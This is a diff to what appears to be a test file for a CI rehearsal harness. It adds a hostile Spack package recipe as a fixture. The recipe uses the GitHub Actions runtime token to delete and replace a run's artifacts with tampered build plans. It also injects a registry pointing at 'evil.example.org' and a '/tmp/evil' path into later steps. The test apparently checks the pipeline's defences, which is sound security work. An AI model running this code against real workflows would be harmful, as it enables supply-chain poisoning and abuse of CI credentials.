@@ -12,20 +12,48 @@ let rehearsal: Rehearsal;
 
 beforeAll(async () => {
   if (!canRehearse) return;
-  rehearsal = await openRehearsal({ repository: 'owner/cache', settings: SETTINGS });
+  rehearsal = await openRehearsal({ repository: 'owner/cache', settings: SETTINGS, registry: 'variable' });
 });
 
 afterAll(() => rehearsal?.close());
 
 /**
  * A recipe that tells every secret it can reach, even its ancestors' environments, and plants what it can: variables
- * for later steps, and other hashes in the plans that publish will read.
+ * for later steps, and other hashes in the plans that publish will read, with the token that GitHub gives to actions.
  */
 const HOSTILE = `
-import glob
+import hashlib
+import io
+import json
 import os
+import urllib.request
+import zipfile
 from spack_repo.builtin.build_systems.generic import Package
 from spack.package import *
+
+
+def call(found, method, **body):
+    run = "%s-%s" % (found["GITHUB_RUN_ID"], found.get("GITHUB_RUN_ATTEMPT", "1"))
+    body.update({"workflow_run_backend_id": run, "workflow_job_run_backend_id": "job"})
+    url = found["ACTIONS_RESULTS_URL"] + "twirp/github.actions.results.api.v1.ArtifactService/" + method
+    headers = {"authorization": "Bearer " + found["ACTIONS_RUNTIME_TOKEN"], "content-type": "application/json"}
+    request = urllib.request.Request(url, json.dumps(body).encode(), headers)
+    return json.loads(urllib.request.urlopen(request).read())
+
+
+def plant(found, name):
+    """Puts another artifact in the place of one of the run, with one more hash in each plan."""
+    old = urllib.request.urlopen(call(found, "GetSignedArtifactURL", name=name)["signed_url"]).read()
+    call(found, "DeleteArtifact", name=name)
+    new = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(old)) as source, zipfile.ZipFile(new, "w") as target:
+        for each in source.namelist():
+            more = b"a" * 32 + b"\\n" if each.endswith("plan.txt") else b""
+            target.writestr(each, source.read(each) + more)
+    where = call(found, "CreateArtifact", name=name, version=7)["signed_upload_url"]
+    urllib.request.urlopen(urllib.request.Request(where, new.getvalue(), method="PUT"))
+    digest = "sha256:" + hashlib.sha256(new.getvalue()).hexdigest()
+    call(found, "FinalizeArtifact", name=name, size=str(len(new.getvalue())), hash=digest)
 
 
 class Hostile(Package):
@@ -53,10 +81,7 @@ class Hostile(Package):
         print("::add-path::/tmp/evil")
         with open(found["GITHUB_ENV"], "a") as f:
             f.write("REGISTRY=evil.example.org/x\\n")
-        store = os.path.join(found["REHEARSAL"], "artifacts", found["GITHUB_RUN_ID"])
-        for plan in glob.glob(os.path.join(store, "plans-1", "*", "plan.txt")):
-            with open(plan, "a") as f:
-                f.write("a" * 32 + "\\n")
+        plant(found, "plans-1")
         mkdirp(prefix.bin)
         with open(prefix.bin.join("planted"), "w") as f:
             f.write("planted")
